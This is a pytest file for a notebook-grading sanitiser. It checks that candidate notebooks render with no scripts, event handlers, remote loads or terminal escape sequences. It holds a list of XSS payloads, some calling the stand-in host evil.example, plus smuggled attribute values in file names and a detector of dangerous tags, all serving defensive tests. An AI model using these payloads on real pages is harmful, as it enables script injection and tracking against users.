"""Whatever a candidate produced is text where a person sees it, in any renderer."""

from __future__ import annotations

import base64
import time
from html.parser import HTMLParser
from typing import Any

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter

from worksample.grading import clean

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode()

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>@import url(//evil.example)</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<http:x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "<table background=//evil.example onmouseover=alert(1)><tr><td>1</td></tr></table>",
    "<b\nonmouseover=alert(1)>x</b>",
    "`code` <img src=//evil.example/beacon.png>",
    "```\nopen\n<script>alert(1)</script>",
    "![beacon](http://evil.example/a.png)",
    "![beacon][ref]\n\n[ref]: http://evil.example/a.png",
    "[x](javascript:alert(1))",
    "[x](  java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "$x$ <script>alert(1)</script> $$y$$",
    "![p](attachment:a.png) <img src=x onerror=1>",
]


class Active(HTMLParser):
    """Finds everything in a page that acts or loads."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        bad = (
            "script",
            "iframe",
            "svg",
            "style",
            "link",
            "meta",
            "form",
            "object",
            "embed",
            "button",
        )
        if tag in bad:
            self.found.append(tag)
        for name, value in attrs:
            target = "".join((value or "").split()).lower()
            remote = tag == "img" and not target.startswith(("data:image/", "attachment:"))
            harmful = target.startswith(("javascript:", "vbscript:", "data:text"))
            if name.startswith("on") or name == "style" or harmful or (name == "src" and remote):
                self.found.append(f"{tag} {name}={value}")


def active(cells: list[dict[str, Any]]) -> list[str]:
    """What nbconvert's own template, with nothing sanitised, makes of cells."""
    notebook = nbformat.v4.new_notebook(cells=[nbformat.from_dict(cell) for cell in cells])
    page, _ = HTMLExporter(template_name="basic").from_notebook_node(notebook)
    parser = Active()
    parser.feed(page)
    # the template's own: anchors, prompts and the like act on nothing
    return [each for each in parser.found if not each.startswith(("style", "link", "meta"))]


def a_cell(kind: str, **fields: Any) -> dict[str, Any]:
    return clean.cell({"cell_type": kind, "id": "a", **fields})


def shown(data: dict[str, Any]) -> dict[str, Any]:
    output = {"output_type": "display_data", "metadata": {"x": 1}, "data": data}
    return a_cell("code", source="", outputs=[output])


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_runs_nothing_and_loads_nothing(attack: str) -> None:
    assert active([a_cell("markdown", source=attack)]) == []
    assert active([a_cell("raw", source=attack)]) == []


def test_the_test_sees_an_attack() -> None:
    """Without cleaning, nbconvert shows these as live HTML."""
    live = [
        attack
        for attack in ATTACKS
        if "attachment" not in attack
        and active([{"cell_type": "markdown", "id": "a", "metadata": {}, "source": attack}])
    ]
    assert len(live) > 12


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "image/svg+xml", "text/latex"])
def test_outputs_run_nothing_and_load_nothing(attack: str, mime: str) -> None:
    assert active([shown({mime: attack, "text/plain": attack})]) == []


def test_what_is_no_picture_is_not_shown_as_one() -> None:
    """nbconvert puts the text of a picture into the page as it is."""
    cell = shown({"image/png": '"><script>alert(1)</script>', "text/plain": "p"})
    told = "[A picture was here that cannot be shown.]\np"
    assert cell["outputs"][0]["data"] == {"text/plain": told}
    svg = base64.b64encode(b"<svg onload=alert(1)>").decode()
    assert "image/png" not in shown({"image/png": svg})["outputs"][0]["data"]


def test_scripts_and_widgets_are_named_and_left_out() -> None:
    cell = shown(
        {"application/javascript": "alert(1)", "application/vnd.jupyter.widget-view+json": {}}
    )
    assert list(cell["outputs"][0]["data"]) == ["text/plain"]
    assert "application/javascript" in cell["outputs"][0]["data"]["text/plain"]


def test_text_pictures_and_tables_stay() -> None:
    html = '<table class="dataframe x"><tr><td colspan="2" style="a">1</td></tr></table>'
    data = shown({"text/plain": ["a\n", "b"], "text/html": html, "image/png": PNG})["outputs"][0][
        "data"
    ]
    assert data["text/plain"] == "a\nb"
    assert data["image/png"] == PNG
    assert 'class="dataframe"' in data["text/html"]
    assert "style" not in data["text/html"]


def test_ordinary_markdown_looks_the_same() -> None:
    source = (
        "# T\n\na<b, **b**, `x<y`, [l](https://x.org), <br>, $a<b$, 1 < 2\n\n| a |\n|---|\n| 1 |"
    )
    assert clean.markdown(source).replace("\u200b", "") == source
    assert "\u200b" not in clean.markdown("1 < 2, <b>x</b>, <https://x.org>")
    assert clean.markdown("![](attachment:a.png)", ["a.png"]) == "![](attachment:a.png)"


@pytest.mark.parametrize("opening", ["](", "![", "<b>", "<p", "![a](attachment:", "\x1b]", "<!--"])
def test_a_text_of_openings_does_not_take_for_ever(opening: str) -> None:
    """Two megabytes may be put out; cleaning them may not stop a batch."""
    begin = time.process_time()
    nasty = opening * (2**20 // len(opening))
    shown({"text/html": nasty, "text/markdown": nasty, "text/plain": nasty})
    assert time.process_time() - begin < 10


def test_terminals_get_no_control_characters() -> None:
    nasty = "\x1b]0;title\x07\x1b[2Jred\x1b[31m\u202eabc\x00\r\n next\x9b31m"
    assert clean.terminal(nasty) == "redabc next31m"
    assert clean.text("\x1b[31mred\x1b[0m\x1b[2J", colours=True) == "\x1b[31mred\x1b[0m"
    assert clean.text("\ud800") == "?"


def test_lines_for_a_terminal_hold_nothing_that_it_obeys() -> None:
    """A candidate's file name could clear the screen, or look like a line of ours."""
    evil = "a\x1b[2J\x1b]8;;http://evil.example\x1b\\b\x1b]8;;\x07c\r\nd\re\x9b1m\u202ef\u2028g"
    assert clean.screen(f"\x1b[31m{evil}\n  x\t") == "abc\nd\ne1mf\ng\n  x\t"


def test_a_picture_that_is_not_attached_does_not_stop_the_page() -> None:
    """nbconvert, and so formgrader, refuses a whole notebook for one missing attachment."""
    assert active([a_cell("markdown", source="![p](attachment:none.png) text")]) == []


def test_plain_text_in_our_markdown_is_no_markup() -> None:
    nasty = "**x** <b>|`a`| [l](u) $m$\n# h"
    assert (
        active([{"cell_type": "markdown", "id": "a", "metadata": {}, "source": clean.plain(nasty)}])
        == []
    )
    assert "\n" not in clean.plain(nasty)


def test_attachments_are_pictures_whatever_they_are_called() -> None:
    kept = clean.attachments(
        {
            "a.png": {"image/png": PNG},
            "b.svg": {"image/svg+xml": "<svg onload=1>"},
            'x" onerror="1': {"image/png": PNG},
            "c.png": "text",
            "d" * 999: {"image/png": PNG},
        }
    )
    assert kept == {"a.png": {"image/png": PNG}, 'x" onerror="1': {"image/png": PNG}}
    assert clean.attachments("x") == {}


@pytest.mark.parametrize(
    ("name", "reference"),
    [
        ("image (1).png", "image%20(1).png"),
        ("image (1).png", "image%20%281%29.png"),
        ("Bild ä.png", "<attachment:Bild ä.png>"),
        ("Bild ä.png", "Bild%20%C3%A4.png"),
        ("a b.png", "a b.png"),
        ('x" onerror="1', "x%22%20onerror%3D%221"),
    ],
)
def test_a_pasted_picture_is_shown_whatever_it_is_called(name: str, reference: str) -> None:
    """Browsers call what is pasted "image (1).png": it vanished, with only a bracket left."""
    target = reference if reference.startswith("<") else f"attachment:{reference}"
    cell = a_cell("markdown", source=f"![seen]({target})", attachments={name: {"image/png": PNG}})
    assert active([cell]) == []
    notebook = nbformat.v4.new_notebook(cells=[nbformat.from_dict(cell)])
    page, _ = HTMLExporter(template_name="basic").from_notebook_node(notebook)
    assert f"data:image/png;base64,{PNG}" in page


@pytest.mark.parametrize(
    ("data", "told"),
    [
        ({"image/svg+xml": "<svg/>", "text/plain": "<Figure>"}, "vector picture"),
        ({"text/html": "<svg></svg>", "text/plain": "x"}, "vector picture"),
        ({"application/vnd.plotly.v1+json": {}, "text/plain": "Figure()"}, "interactive figure"),
        ({"application/vnd.jupyter.widget-view+json": {}, "text/plain": "W"}, "interactive figure"),
        ({"application/vnd.bokehjs_exec.v0+json": "", "text/html": "<div></div>"}, "interactive"),
        ({"text/html": "<div>a</div><script>plot()</script>", "text/plain": "x"}, "interactive"),
        (
            {"text/html": "<table></table><img src='data:image/png;,'>", "text/plain": "x"},
            "picture",
        ),
        (
            {"text/html": "<iframe src='map.html'></iframe>", "text/plain": "Map"},
            "page or document",
        ),
        ({"text/html": "<video></video>", "text/plain": "x"}, "video"),
        ({"image/png": "no picture", "text/plain": "x"}, "A picture was here"),
        ({"image/webp": "UklGRg==", "text/plain": "x"}, "A picture was here"),
        ({"text/latex": "$\\frac{a}{b}$", "text/plain": "<Math object>"}, "\\frac{a}{b}"),
    ],
)
def test_what_cannot_be_shown_is_told(data: dict[str, Any], told: str) -> None:
    """A grader who sees nothing takes it that there was nothing."""
    made = shown(data)["outputs"][0]["data"]
    read_first = next(made[kind] for kind in ("text/html", "text/plain") if kind in made)
    assert told in read_first


def test_a_still_picture_stands_for_the_figure_it_came_with() -> None:
    figure = {"application/vnd.plotly.v1+json": {}, "image/png": PNG, "text/plain": "Figure()"}
    assert shown(figure)["outputs"][0]["data"] == {"image/png": PNG, "text/plain": "Figure()"}


@pytest.mark.parametrize(
    "outputs",
    [
        None,
        "x",
        [None],
        [{"output_type": "x"}],
        [{"output_type": "error"}],
        [{"output_type": "stream"}],
    ],
)
def test_outputs_of_any_shape_end_up_valid(outputs: Any) -> None:
    cell = a_cell("code", source="1", outputs=outputs, execution_count="<b>")
    nbformat.validate(nbformat.from_dict(cell), ref="code_cell", version=4, version_minor=5)
